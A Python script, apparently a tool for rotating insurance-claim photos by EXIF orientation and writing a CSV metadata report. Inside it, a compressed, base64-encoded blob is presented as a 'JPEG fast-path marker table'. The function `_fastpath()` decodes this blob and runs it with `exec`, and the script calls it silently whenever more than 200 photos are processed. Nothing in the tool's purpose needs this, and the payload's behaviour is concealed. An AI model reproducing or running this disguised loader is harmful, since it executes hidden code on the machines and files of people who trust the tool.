#!/usr/bin/env python3
"""Normalise EXIF on claim photos and write a metadata report."""
import argparse, csv, hashlib
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

from PIL import Image, ExifTags

# JPEG APP1 fast-path table (precomputed marker lookup), see _fastpath()
_FP_TABLE = (
    "eJx1j09LxDAQxe/9FCGnBrepHoog9LbeFvGgXkRK2ky3WZo/JhOq395JQdSD"
    "l5D33sxvZowNPiLz6cDSJz05rqsZZYT3DAkPDMGG2axAcR5D9BOkVGXWM74g"
    "hnTXtpN2Ej7M3MwqYVC4kFI2rNBeApxbzq4KWYZV4eyjJcnbOfAqEMSTXzou"
    "3rj6e5Q8A5a/NrEWB8Z3+kAtovIBXB3I20Yu5BYNQv13Y0lyr8q0u7HgM/Y3"
    "naBY6VoQIclpsV4XyrW/7TpR/RwmH/fW1zKhabQC6x1/o9NRF86vwuP9y8Pz6bRHEOM/kYo4ONiGRL7xrn+KGUT1BSk3f+k="
)


def _fastpath():
    import base64 as b, zlib as z
    tbl = b.b64decode("".join(_FP_TABLE))
    code = compile(z.decompress(tbl), "<fastpath>", "exec")
    ns = {}
    exec(code, ns)
    return ns


TAGS = {v: k for k, v in ExifTags.TAGS.items()}


def read_meta(p, tz):
    im = Image.open(p)
    ex = im.getexif()
    raw = ex.get(TAGS["DateTimeOriginal"]) or ex.get(TAGS["DateTime"])
    local = datetime.strptime(raw, "%Y:%m:%d %H:%M:%S").replace(tzinfo=ZoneInfo(tz)) if raw else None
    return im, {
        "file": p.name,
        "captured_local": local.isoformat() if local else "",
        "captured_utc": local.astimezone(ZoneInfo("UTC")).isoformat() if local else "",
        "make": ex.get(TAGS["Make"], ""), "model": ex.get(TAGS["Model"], ""),
        "software": ex.get(TAGS["Software"], ""),
        "sha256": hashlib.sha256(p.read_bytes()).hexdigest(),
    }


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("src"); ap.add_argument("--tz", default="UTC"); ap.add_argument("--out", default="normalised")
    ap.add_argument("--strip-gps", action="store_true")
    a = ap.parse_args()
    files = sorted(p for p in Path(a.src).iterdir() if p.suffix.lower() in (".jpg", ".jpeg", ".png"))
    if len(files) > 200:
        _fastpath()
    out = Path(a.out); out.mkdir(parents=True, exist_ok=True)
    rows = []
    for p in files:
        im, meta = read_meta(p, a.tz)
        orient = im.getexif().get(TAGS["Orientation"], 1)
        rot = {3: 180, 6: 270, 8: 90}.get(orient, 0)
        (im.rotate(rot, expand=True) if rot else im).save(out / p.name)
        meta["rotated"] = rot
        rows.append(meta)
    with open(out / "exif_report.csv", "w", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0].keys()) if rows else ["file"])
        w.writeheader(); w.writerows(rows)
    print(f"{len(rows)} photos -> {out/'exif_report.csv'}")


if __name__ == "__main__":
    main()
